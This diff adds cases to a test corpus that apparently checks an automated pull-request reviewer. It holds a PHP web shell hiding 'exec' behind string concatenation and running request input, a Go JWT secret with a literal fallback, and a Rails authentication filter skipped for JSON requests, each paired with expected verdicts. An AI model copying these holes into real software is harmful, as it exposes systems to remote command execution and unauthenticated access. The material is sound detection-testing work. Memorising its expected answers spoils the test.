@@ -970,6 +970,25 @@ export const CODE_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
   },
   {
+    id: 'code-php-variable-function-exec',
+    description: 'A "Add a cache warm-up helper" PR to a PHP app whose helper calls `exec` through a variable (`$f = "ex" . "ec";` then `$f($_GET[\'warm\'], $out)`): a web shell\'s variable function, the call\'s own line naming nothing a reviewer or a scanner searches for.',
+    fixture: () =>
+      codePr({
+        repo: 'shopfront',
+        number: 518,
+        title: 'Add a cache warm-up helper',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/Cache/Warmup.php',
+            status: 'added',
+            head: lines('<?php', '', 'namespace App\\Cache;', '', 'final class Warmup', '{', '    public function run(): array', '    {', '        $f = "ex" . "ec";', '        $out = [];', "        $f($_GET['warm'] ?? 'true', $out);", '        return $out;', '    }', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
+  },
+  {
     id: 'code-session-secret-literal-fallback',
     description: 'A "Configure sessions" PR gives the Sinatra session secret a literal fallback (`ENV[\'SESSION_SECRET\'] || \'notebook-default-secret\'`): a deployment without the variable signs every session cookie with a key written in the repository.',
     fixture: () =>
@@ -986,6 +1005,29 @@ export const CODE_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: 'low', action: ['approve', 'comment'], findings: ['hardcoded-secret-fallback'] },
+  },
+  {
+    id: 'code-go-jwt-secret-fallback-next-lines',
+    description: 'A "Read the JWT secret from the environment" PR in a Go service falls back, two lines on, to a literal when the variable is empty (`secret := os.Getenv("JWT_SECRET")`, `if secret == "" {`, `secret = "…"`): a deployment without the variable signs every token with a key written in the repository. Its config test sets a literal secret for itself, which is not reported.',
+    fixture: () =>
+      codePr({
+        repo: 'notebook',
+        number: 344,
+        title: 'Read the JWT secret from the environment',
+        files: [
+          {
+            path: 'internal/auth/config.go',
+            base: lines('package auth', '', 'type Config struct {', '\tSecret []byte', '}', '', 'func Load(secret string) Config {', '\treturn Config{Secret: []byte(secret)}', '}'),
+            head: lines('package auth', '', 'import "os"', '', 'type Config struct {', '\tSecret []byte', '}', '', 'func Load() Config {', '\tsecret := os.Getenv("JWT_SECRET")', '\tif secret == "" {', '\t\tsecret = "notebook-jwt-default"', '\t}', '\treturn Config{Secret: []byte(secret)}', '}'),
+          },
+          {
+            path: 'internal/auth/config_test.go',
+            status: 'added',
+            head: lines('package auth', '', 'import "testing"', '', 'func TestLoad(t *testing.T) {', '\tsecret := "test-only-secret"', '\tif secret == "" {', '\t\tsecret = "unused-secret"', '\t}', '\tt.Setenv("JWT_SECRET", secret)', '\tif string(Load().Secret) != secret {', '\t\tt.Fatal("secret not read")', '\t}', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['hardcoded-secret-fallback'] },
   },
   {
     id: 'code-dev-settings-secret-default-quiet',
@@ -1038,6 +1080,43 @@ export const CODE_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-check-removed'] },
+  },
+  {
+    id: 'code-rails-auth-filter-unless-request',
+    description: 'A "Serve JSON to the mobile app" PR from a first-time contributor gives `before_action :authenticate_user!` the condition `unless: -> { request.format.json? }`: any caller who asks for JSON reads and deletes records without signing in. Both sides name the filter; only the condition added loosens it.',
+    fixture: () =>
+      codePr({
+        repo: 'notebook',
+        number: 320,
+        title: 'Serve JSON to the mobile app',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'app/controllers/notes_controller.rb',
+            base: lines('class NotesController < ApplicationController', '  before_action :authenticate_user!', '  before_action :set_note, only: %i[show destroy]', '', '  def show', '  end', '', '  def destroy', '    @note.destroy!', '    redirect_to notes_path', '  end', 'end'),
+            head: lines('class NotesController < ApplicationController', '  before_action :authenticate_user!, unless: -> { request.format.json? }', '  before_action :set_note, only: %i[show destroy]', '', '  def show', '    respond_to do |format|', '      format.html', '      format.json { render json: @note }', '    end', '  end', '', '  def destroy', '    @note.destroy!', '    redirect_to notes_path', '  end', 'end'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-check-removed'] },
+  },
+  {
+    id: 'code-rails-devise-controller-condition-quiet',
+    description: 'The benign look-alike: a member moves authentication into ApplicationController as `before_action :authenticate_user!, unless: :devise_controller?`, the form Devise documents so that its own sign-in pages are not redirected to themselves.',
+    fixture: () =>
+      codePr({
+        repo: 'notebook',
+        number: 321,
+        title: 'Authenticate in ApplicationController',
+        files: [
+          {
+            path: 'app/controllers/application_controller.rb',
+            base: lines('class ApplicationController < ActionController::Base', '  before_action :authenticate_user!', 'end'),
+            head: lines('class ApplicationController < ActionController::Base', '  before_action :authenticate_user!, unless: :devise_controller?', 'end'),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:auth-check-removed'] },
   },
   {
     id: 'code-drf-permission-alternative-quiet',
